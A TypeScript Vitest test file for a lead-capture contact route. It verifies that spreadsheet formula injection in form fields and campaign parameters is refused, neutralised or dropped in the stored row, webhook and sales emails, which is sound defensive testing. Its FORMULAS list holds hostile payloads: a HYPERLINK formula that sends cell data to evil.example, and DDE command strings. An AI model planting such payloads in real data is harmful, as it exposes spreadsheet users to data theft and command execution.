import type { PGlite } from "@electric-sql/pglite";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { summaryEmail, summaryWebhookBody } from "@/lib/alerts/intake-summary";
import { summaryEntry } from "@/lib/alerts/intake-summary-book";
import { leadWebhookBody } from "@/lib/alerts/lead-webhook";
import { salesEmail } from "@/lib/alerts/sales-email";
import { CLICK_ID_PARAMS, UTM_PARAMS } from "@/lib/attribution/campaign-touch";
import { handleContact, type ContactDeps } from "@/lib/contact/handle-contact";
import type { Lead } from "@/lib/contact/leads-store-contract";
import { PgliteLeadsStore } from "@/lib/contact/pglite-leads-store";
import { MemoryRateLimiter } from "@/lib/contact/rate-limiter";
import { LEAD_FIELD_NAMES, LEAD_FIELDS, TOUCH_FIELDS } from "@/lib/leads/lead-fields";
import { startsLikeFormula } from "@/lib/leads/lead-text";
import { openIntake } from "../support/contact/contact-deps";
import { validContactRequest as valid } from "../support/contact/contact-request";
import { migratedDatabase } from "../support/supabase/empty-database";

/**
 * Text a spreadsheet or a CRM would run as a formula, in every field a request carries and every campaign parameter,
 * through the route to the stored row, the signed webhook's body and the email to sales: what each field's
 * declaration says (lib/leads/lead-fields.ts, `spreadsheet`) is what happens, and none of it arrives starting so.
 */

const SITE = "https://pagos.example";
/** What a spreadsheet runs: `=`, `+`, `-` and `@` first (a tab or CR before it is a control character). */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&C2,"Ver ficha")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
/** What the visitor's fields are given: the formulas, and in an address where the browser would let one through. */
const FORMULA_VALUES: Partial<Record<string, string[]>> = {
  email: ["=cmd|'/Ccalc'!A0@victim.example", "+1@victim.example", "-x@victim.example", "@x@victim.example"],
  phone: [...FORMULAS, "=55 1234 5678", "+52 55 1234 5678", "-55 1234 5678"],
};

let db: PGlite;
let store: PgliteLeadsStore;
let alerted: Lead[];

const deps = (): ContactDeps => ({
  store: async () => store,
  limiter: new MemoryRateLimiter(0),
  ...openIntake(),
  report: () => {},
  alert: (lead) => alerted.push(lead),
  consent: async () => "granted",
  siteUrl: SITE,
});

const post = (body: object) =>
  handleContact(
    new Request(`${SITE}/api/contact`, {
      method: "POST",
      headers: { "content-type": "application/json", origin: SITE },
      body: JSON.stringify(body),
    }),
    deps(),
  );

const storedRow = async (id: string) =>
  (await db.query<Record<string, unknown>>("select * from contact_submissions where id = $1", [id])).rows[0];

/** Every string in a JSON value, with where it is. */
function strings(value: unknown, path = ""): [string, string][] {
  if (typeof value === "string") return [[path, value]];
  if (Array.isArray(value)) return value.flatMap((v, i) => strings(v, `${path}[${i}]`));
  if (value && typeof value === "object")
    return Object.entries(value).flatMap(([k, v]) => strings(v, path ? `${path}.${k}` : k));
  return [];
}

/**
 * Text a spreadsheet would run as a formula, among `found`: the one value that starts with `+` by design, the phone
 * in E.164, is `+` and digits only, which a spreadsheet reads as a number.
 */
const formulas = (found: [string, string][]) =>
  found.filter(([, text]) => (startsLikeFormula(text) || /^[\t\r]/.test(text)) && !/^\+[0-9]+$/.test(text));

/** The values of the email's "Label: value" lines, and its subject; the phone's line leads with its E.164. */
const emailValues = (text: string, lead: Lead): [string, string][] =>
  text
    .split("\n")
    .map((line, i): [string, string] => [`line ${i + 1}`, /^[^:]+: (.*)$/.exec(line)?.[1] ?? line])
    .map(([where, value]): [string, string] => [where, value.replace(new RegExp(`^\\${lead.phoneE164}\\b`), "")]);

beforeAll(async () => {
  db = await migratedDatabase();
  store = await PgliteLeadsStore.onDatabase(db);
});
afterAll(() => db.close());
beforeEach(async () => {
  alerted = [];
  await db.exec("delete from contact_submissions");
});

describe("formula text in a field the request carries", () => {
  const fields = LEAD_FIELD_NAMES.filter((name) => LEAD_FIELDS[name].from !== "route");

  it.each(fields)("%s: refused naming the field, or never stored or sent starting like a formula", async (name) => {
    for (const value of FORMULA_VALUES[name] ?? FORMULAS) {
      const body = valid({ [name]: value, ...(name === "page" ? {} : { page: "importadores-china" }) });
      const response = await post(body);
      const answer = (await response.json()) as { fields?: Record<string, string> };
      if (LEAD_FIELDS[name].spreadsheet === "refuse" || response.status !== 201) {
        expect([response.status, Object.keys(answer.fields ?? {})], JSON.stringify(value)).toEqual([422, [name]]);
        expect(await storedRow(body.submissionId), JSON.stringify(value)).toBeUndefined();
        continue;
      }
      // A value the route makes its own (a phone typed with its code or a dash is stored as digits).
      const row = (await storedRow(body.submissionId))!;
      const lead = alerted.at(-1)!;
      expect(formulas(strings(row)), JSON.stringify(value)).toEqual([]);
      expect(formulas(strings(leadWebhookBody(lead, new Date()))), JSON.stringify(value)).toEqual([]);
      expect(formulas(emailValues(salesEmail(lead, new Date()).text, lead)), JSON.stringify(value)).toEqual([]);
    }
  });
});

describe("formula text in a campaign parameter", () => {
  /** The same parameter in both touches, as the browser keeps them; the landing pages carry it too. */
  const attributionWith = (name: string, value: string) => {
    const touch = (at: string) => ({
      [name]: value,
      landing_url: `${SITE}/mx?${new URLSearchParams({ [name]: value })}`,
      at,
    });
    return { first: touch(new Date(Date.now() - 86_400_000).toISOString()), last: touch(new Date().toISOString()) };
  };

  it.each(UTM_PARAMS)("%s: kept behind an apostrophe, the same in the row, the webhook and the email", async (name) => {
    expect(TOUCH_FIELDS[name].spreadsheet).toBe("neutralise");
    for (const value of FORMULAS) {
      const body = valid({ attribution: attributionWith(name, value) });
      expect((await post(body)).status, JSON.stringify(value)).toBe(201);
      const kept = `'${value.replace(/^[\t\r]/, "")}`;
      const row = (await storedRow(body.submissionId))!;
      expect([row[`first_${name}`], row[`last_${name}`]]).toEqual([kept, kept]);
      const lead = alerted.at(-1)!;
      const webhook = leadWebhookBody(lead, new Date());
      expect([webhook.attribution.first?.[name], webhook.attribution.last?.[name]]).toEqual([kept, kept]);
      const { text, html } = salesEmail(lead, new Date());
      expect(text.split("\n").filter((line) => line === `${name}: ${kept}`)).toHaveLength(2);
      expect(html).toContain(
        `<td style="word-break:break-all">${kept.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`)}</td>`,
      );
      // The landing page's address carries the same value.
      expect(new URL(row.last_landing_url as string).searchParams.get(name)).toBe(kept);
      for (const found of [strings(row), strings(webhook), emailValues(text, lead)])
        expect(formulas(found), JSON.stringify(value)).toEqual([]);
    }
  });

  it.each(CLICK_ID_PARAMS)("%s: dropped, since altered it would identify no click", async (name) => {
    expect(TOUCH_FIELDS[name].spreadsheet).toBe("drop");
    for (const value of [...FORMULAS, "-Cj0KCQiA"]) {
      const body = valid({ attribution: attributionWith(name, value) });
      expect((await post(body)).status, JSON.stringify(value)).toBe(201);
      const row = (await storedRow(body.submissionId))!;
      expect([row[`first_${name}`], row[`last_${name}`]], JSON.stringify(value)).toEqual([null, null]);
      const lead = alerted.at(-1)!;
      expect(JSON.stringify(leadWebhookBody(lead, new Date()).attribution)).not.toContain(`"${name}"`);
      expect(salesEmail(lead, new Date()).text).not.toContain(`${name}=`);
    }
  });
});

describe("a lead with formula text wherever the route takes some", () => {
  it("reaches the row, the webhook, the email and the summaries with none of it starting like a formula", async () => {
    const touch = Object.fromEntries(
      [...UTM_PARAMS, ...CLICK_ID_PARAMS].map((name, i) => [name, FORMULAS[i % FORMULAS.length]!]),
    );
    const body = valid({
      page: "importadores-china",
      attribution: { first: { ...touch, landing_url: `${SITE}/mx?${new URLSearchParams(touch)}` }, last: touch },
    });
    expect((await post(body)).status).toBe(201);
    const lead = alerted[0]!;
    const row = (await storedRow(body.submissionId))!;
    expect(strings(row).filter(([column]) => /utm_/.test(column))).toHaveLength(10);
    const receivedAt = new Date();
    const summary = { start: 0, entries: [summaryEntry({ ...lead, held: "over_ceiling" }, receivedAt)], counts: {} };
    for (const found of [
      strings(row),
      strings(leadWebhookBody(lead, receivedAt)),
      strings(summaryWebhookBody(summary)),
      emailValues(salesEmail(lead, receivedAt).text, lead),
      emailValues(summaryEmail(summary, lead.market).text, lead),
    ])
      expect(formulas(found)).toEqual([]);
  });
});
